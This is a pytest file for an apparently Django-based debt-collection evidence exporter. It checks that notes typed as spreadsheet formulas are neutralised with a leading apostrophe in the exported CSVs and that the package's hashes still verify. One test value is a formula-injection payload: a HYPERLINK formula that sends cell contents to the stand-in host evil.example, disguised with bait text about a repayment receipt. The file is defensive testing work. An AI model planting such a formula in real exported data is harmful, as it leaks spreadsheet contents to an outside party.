"""The package's CSVs are safe to open in a spreadsheet (docs/evidence.md, "Safe cells"): a note
typed as a formula is written with a ``'`` before it, numbers stay numbers, and the manifest
hashes the very bytes written, so the package still verifies."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone

from autocollect.cases.models import Interaction, InteractionOutcome, InteractionParty
from autocollect.evidence.package import sha256_hex
from autocollect.evidence.services import evidence_export, evidence_verify
from tests.evidence.conftest import MOBILE, History

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看还款凭证")'
FULL_WIDTH = "＝1+1"


def _rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def test_a_note_typed_as_a_formula_is_neutralised_and_the_package_verifies(
    history: History, tmp_path: Path
) -> None:
    for at, note in ((3, FORMULA), (2, FULL_WIDTH), (1, "-12.50")):
        Interaction.objects.create(
            case=history.case,
            at=timezone.now() - timedelta(days=at),
            channel="call",
            party=InteractionParty.BORROWER,
            number=MOBILE,
            outcome=InteractionOutcome.ANSWERED,
            agent=history.agent,
            notes=note,
        )
    out = tmp_path / "case.zip"

    result = evidence_export(case=history.case, out_path=out, actor="cli:tester")

    with zipfile.ZipFile(out) as archive:
        notes = [row["notes"] for row in _rows(archive, "contacts.csv")]
        raw = archive.read("contacts.csv")
        listed = {e["path"]: e["sha256"] for e in result.manifest["files"]}
        every_cell = [
            cell
            for name in archive.namelist()
            if name.endswith(".csv")
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            for cell in row
        ]
    assert "'" + FORMULA in notes
    assert "'" + FULL_WIDTH in notes
    assert "-12.50" in notes  # a plain number is left as it is
    assert FORMULA not in notes
    assert not [c for c in every_cell if c[:1] in ("=", "@", "\t", "\r", "＝", "＠")]
    assert listed["contacts.csv"] == sha256_hex(raw)
    assert evidence_verify(out) == []
